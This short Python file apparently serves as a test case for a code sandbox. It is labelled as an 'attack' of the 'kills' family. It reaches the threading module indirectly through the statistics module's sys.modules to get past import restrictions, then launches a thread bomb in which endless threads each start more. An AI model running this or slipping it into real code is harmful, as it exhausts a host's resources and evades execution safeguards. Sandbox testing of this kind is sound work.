# attack: threads without end, each of which starts others
# family: kills
import statistics

threading = [statistics][0].sys.modules["threading"]
print("REACHED", threading)


def more():
    while True:
        try:
            threading.Thread(target=more).start()
        except RuntimeError:
            pass


more()
